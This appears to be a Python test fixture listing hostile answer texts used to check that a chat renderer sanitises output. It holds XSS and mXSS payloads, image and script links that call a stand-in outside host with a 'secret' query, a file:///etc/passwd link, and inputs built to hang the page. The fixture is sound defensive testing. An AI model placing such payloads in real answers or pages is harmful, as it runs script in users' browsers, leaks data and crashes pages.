"""Answers that try to run a script, to send a request, or to bring the page down."""

from typing import Final

_ELSEWHERE: Final = "https://elsewhere.invalid"

HOSTILE: Final[dict[str, str]] = {
    "script": "<script>alert(1)</script>",
    "script from elsewhere": f"<script src={_ELSEWHERE}/a.js></script>",
    "script in a paragraph": "Hello <script>alert(1)</script> you",
    "picture": f"![x]({_ELSEWHERE}/leak.png?q=secret)",
    "picture as HTML": f"<img src={_ELSEWHERE}/leak.png onerror=alert(1)>",
    "picture by reference": f"![x][leak]\n\n[leak]: {_ELSEWHERE}/leak.png",
    "set of pictures": f"<picture><source srcset={_ELSEWHERE}/a.png><img></picture>",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link with a tab": "[x](java\tscript:alert(1)) [y](<java&#x0A;script:alert(1)>)",
    "javascript link in letters": "[x](&#106;avascript:alert(1)) [y](JaVaScRiPt:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "data link": "[x](data:text/html,<script>alert(1)</script>)",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "blob and file links": "[x](blob:https://a/b) [y](file:///etc/passwd)",
    "link with a handler": '<a href="https://a.b" onclick="alert(1)" onmouseover="alert(1)">x</a>',
    "style": f"<style>@import '{_ELSEWHERE}/a.css'; body {{ display: none }}</style>",
    "style attribute": f'<p style="background:url({_ELSEWHERE}/a.png)">x</p>',
    "style sheet": f'<link rel="stylesheet" href="{_ELSEWHERE}/a.css">',
    "base and refresh": f'<base href="{_ELSEWHERE}/"><meta http-equiv="refresh" content="0;url={_ELSEWHERE}">',
    "SVG": f'<svg onload="alert(1)"><script>alert(1)</script><image href="{_ELSEWHERE}/a.png"/></svg>',
    "SVG with use": f'<svg><use href="{_ELSEWHERE}/a.svg#x"/><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    "MathML": '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mXSS by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mXSS by a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mXSS by a template": '<template><p id="</template><img src=x onerror=alert(1)>"></template>',
    "frame": f'<iframe src="{_ELSEWHERE}" srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "object and embed": f'<object data="{_ELSEWHERE}/a.swf"></object><embed src="{_ELSEWHERE}/a.swf">',
    "form": f'<form action="{_ELSEWHERE}"><input name=q autofocus onfocus=alert(1)><button>x</button></form>',
    "sound and film": f'<audio src="{_ELSEWHERE}/a.mp3" autoplay></audio><video poster="{_ELSEWHERE}/a.png"></video>',
    "clobbered names": '<a id="root" name="body">x</a><img name="querySelector"><form id="conversation"></form>',
    "formula": "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://elsewhere.invalid/a.png}$ $\\class{x}{y}$",
    "formula that grows": "$\\def\\a{xx}"
    + "".join(f"\\def\\{b}{{" + f"\\{a}" * 8 + "}" for a, b in ("ab", "bc", "cd"))
    + "\\d\\d$",
    "code that ends its block": "```html\n</code></pre><script>alert(1)</script>\n```\n\n`</code><img src=x>`",
    "table with markup": "| <img src onerror=alert(1)> | b |\n|---|---|\n| <svg onload=alert(1)> | [x](javascript:0) |",
    "language of code": '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "deep quotation": ">" * 3000 + " x",
    "deep list": "\n".join("  " * depth + "- x" for depth in range(400)),
    "open emphasis": "*a **b " * 4000,
    "open brackets": "[" * 20_000 + "(" * 20_000,
    "combining marks": "a" + "\u0301" * 90 + " " + "‮reversed‬ \u2028\u2029 text",
    "marks of the page": "\ufffc\ue001\ufffc and <sup class='source-mark'>1</sup>",
    "wide table": "|" + " a |" * 400 + "\n|" + "---|" * 400 + "\n|" + " b |" * 400,
}
